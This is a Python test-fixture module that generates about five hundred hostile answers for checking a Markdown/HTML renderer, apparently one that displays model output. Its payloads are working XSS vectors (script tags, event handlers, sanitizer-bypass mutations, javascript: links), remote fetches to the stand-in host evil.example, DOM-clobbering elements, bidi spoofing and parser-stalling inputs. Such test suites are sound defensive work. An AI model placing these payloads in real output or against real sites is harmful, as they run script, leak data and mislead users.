"""Answers that want to run, to fetch, to mislead or to stall: five hundred, always the same."""

from collections.abc import Callable
from itertools import product

SAYS_SO = "window.owned=1"
ELSEWHERE = "http://evil.example"

PAYLOADS = (
    # what runs by itself
    f"<script>{SAYS_SO}</script>",
    f"<SCRIPT/x>{SAYS_SO}</SCRIPT >",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<scr<script>ipt>{SAYS_SO}</scr</script>ipt>",
    f"<img src=x onerror={SAYS_SO}>",
    f'<img src="x"onerror="{SAYS_SO}"//',
    f"<svg onload={SAYS_SO}>",
    f"<svg><script>{SAYS_SO}</script></svg>",
    f"<svg><animate onbegin={SAYS_SO} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    f"onerror={SAYS_SO}&gt;'>",
    f"<body onload={SAYS_SO}><details open ontoggle={SAYS_SO}>x</details>",
    f"<input autofocus onfocus={SAYS_SO}><video><source onerror={SAYS_SO}></video>",
    f"<iframe srcdoc='<script>parent.{SAYS_SO}</script>'></iframe>",
    f"<iframe src=javascript:parent.{SAYS_SO}></iframe>",
    f"<object data=javascript:{SAYS_SO}></object><embed src=javascript:{SAYS_SO}>",
    f"<style>@import '{ELSEWHERE}/x.css'; * {{ display: none !important }}</style>",
    f"<noscript><p title='</noscript><img src=x onerror={SAYS_SO}>'></noscript>",
    f"<template><script>{SAYS_SO}</script></template><xmp><img src=x onerror={SAYS_SO}></xmp>",
    # what waits for a click
    f"[x](javascript:{SAYS_SO})",
    f"[x](JaVaScRiPt:{SAYS_SO})",
    f"[x](java\tscript:{SAYS_SO})",
    f"[x](&#106;avascript:{SAYS_SO})",
    f"[x](vbscript:{SAYS_SO}) [y](file:///etc/passwd)",
    f"[x](data:text/html,<script>{SAYS_SO}</script>)",
    f"<a href='javascript:{SAYS_SO}'>x</a> <a href=\" \x01javascript:{SAYS_SO}\">y</a>",
    f"<javascript:{SAYS_SO}> [r]\n\n[r]: javascript:{SAYS_SO}",
    f"<form action={ELSEWHERE}><button formaction=javascript:{SAYS_SO}>Send</button></form>",
    # what fetches
    f"![x]({ELSEWHERE}/pixel.gif)",
    "![x](//evil.example/pixel.gif) ![y](https://evil.example/y.png 'z')",
    f"<img src={ELSEWHERE}/p.gif srcset='{ELSEWHERE}/q.gif 2x'>",
    f"<p style='background:url({ELSEWHERE}/x.png)'>x</p>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css><link rel=preload as=image href={ELSEWHERE}/x>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href={ELSEWHERE}/>",
    f"<video poster={ELSEWHERE}/x.png src={ELSEWHERE}/x.mp4 autoplay></video>",
    f"<audio src={ELSEWHERE}/x.ogg autoplay></audio>"
    f"<picture><source srcset={ELSEWHERE}/x></picture>",
    f"<svg><image href={ELSEWHERE}/x.png /><use href={ELSEWHERE}/x.svg#y /></svg>",
    f"![x](data:image/svg+xml,<svg/onload={SAYS_SO}>) ![y](data:text/html,{SAYS_SO})",
    f"[![x]({ELSEWHERE}/a.png)]({ELSEWHERE})",
    # what takes the page's own names
    "<div id=message></div><div id=root></div><img name=getElementById><form id=body></form>",
    "<div id=page class=composer role=textbox aria-label=Message contenteditable>type here</div>",
    # what misleads
    "\u202egnp.exe\u202c \u2066\u2067abc\u2069 \u200f\u200e\u061c and [gro.elpmaxe](http://a.example)",
    "Z̷̛̹̈" * 200 + "\u0000\ufffe\ud7ff",
    # what stalls
    "word" * 5_000,
    "|" + "a|" * 60 + "\n|" + "-|" * 60 + "\n" + ("|" + "b|" * 60 + "\n") * 40,
    "> " * 300 + "deep",
    "\n".join("  " * depth + "- deep" for depth in range(60)),
    "*" * 2_000 + "a" + "_" * 2_000,
    "[" * 2_000 + "](" * 500,
    "```js\n" + "let x = `${\n" * 200,
    "<" * 3_000 + "<!--" * 200,
)
PLACES: tuple[Callable[[str], str], ...] = (
    lambda bad: bad,
    lambda bad: f"Look: **{bad}** and go on",
    lambda bad: f"- one\n- {bad}\n  - {bad}",
    lambda bad: f"| a | b |\n|---|---|\n| {bad} | x |",
    lambda bad: f"> {bad}\n\n# {bad}",
    lambda bad: f"[{bad}](http://a.example '{bad}')",
    lambda bad: f"```html\n{bad}",
    lambda bad: f"`{bad}` ``{bad}` ~~{bad}~~",
    lambda bad: f"これは「{bad}」です。**「{bad}」**",
    lambda bad: f"<div>{bad}\n\n<b><i><table>{bad}</div>",
)

ANSWERS = tuple(place(bad) for place, bad in product(PLACES, PAYLOADS))
